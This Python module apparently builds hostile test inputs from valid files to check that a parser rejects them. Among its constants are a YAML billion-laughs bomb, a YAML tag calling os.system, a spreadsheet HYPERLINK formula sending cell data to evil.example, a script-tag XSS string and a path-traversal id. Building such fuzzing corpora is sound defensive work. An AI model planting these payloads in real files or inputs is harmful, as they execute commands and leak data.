"""The corpus of hostile files, built from valid ones so it stays small and in step with the code.

Each function takes the bytes (or text) of a valid file and returns a broken variant of one class:
encodings, line endings, truncation, binary junk, YAML bombs and duplicate keys, tags, deep nesting,
formula and markup labels, path-escaping ids.
"""

from __future__ import annotations

import codecs
import io
import zipfile

#: a "billion laughs": 10^9 values if the aliases were expanded
YAML_BOMB = (
    "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
    + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(8)
    )
    + "z: *i\n"
)
DEEP_YAML = "k: " + "[" * 200 + "]" * 200 + "\n"
PYTHON_TAG = "kind: !!python/object/apply:os.system ['touch pwned']\n"
BINARY = b"\x00\x01\x02\xff\xfePK\x03\x04" + bytes(range(256)) * 4
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
MARKUP = "<script>alert(1)</script> [klik](http://evil.example)"
ESCAPE_ID = "../../../escaped-pwn"


def utf16(text: str, *, bom: bool = True) -> bytes:
    return (codecs.BOM_UTF16_LE if bom else b"") + text.encode("utf-16-le")


def latin1(text: str) -> bytes:
    """``text`` in Windows-1252 (with an accented letter, so it is not also UTF-8)."""
    return (text if "é" in text else text.replace("\n", " # café\n", 1)).encode("cp1252")


def cr_only(data: bytes) -> bytes:
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r")


def cut(data: bytes, fraction: float = 0.5) -> bytes:
    return data[: int(len(data) * fraction)]


def cut_mid_line(data: bytes) -> bytes:
    """The file cut in the middle of a data row (a copy that stopped early)."""
    half = data[: len(data) // 2]
    last = half.rfind(b"\n")
    return half[: last + 1 + max(1, (len(half) - last) // 2)]


def duplicate_header(data: bytes) -> bytes:
    """The first column's name also given to the second column."""
    head, _, rest = data.partition(b"\n")
    names = head.split(b",")
    names[1] = names[0]
    return b",".join(names) + b"\n" + rest


def duplicate_key(yaml_text: str, key: str, value: str) -> str:
    """``key: value`` added again after the first top-level ``key:`` line."""
    lines = yaml_text.splitlines(keepends=True)
    at = next(i for i, ln in enumerate(lines) if ln.startswith(f"{key}:"))
    return "".join(lines[: at + 1] + [f"{key}: {value}\n"] + lines[at + 1 :])


def replace_line(yaml_text: str, key: str, line: str) -> str:
    """The first top-level ``key: ...`` line replaced by ``line``."""
    out = []
    done = False
    for ln in yaml_text.splitlines(keepends=True):
        if not done and ln.startswith(f"{key}:"):
            out.append(line.rstrip("\n") + "\n")
            done = True
        else:
            out.append(ln)
    assert done, key
    return "".join(out)


def truncate_zip_member(data: bytes, member_suffix: str) -> bytes:
    """A zip (xlsx) whose member ending in ``member_suffix`` is cut in half."""
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as out:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename.endswith(member_suffix):
                body = body[: len(body) // 2]
            out.writestr(info, body)
    return buf.getvalue()
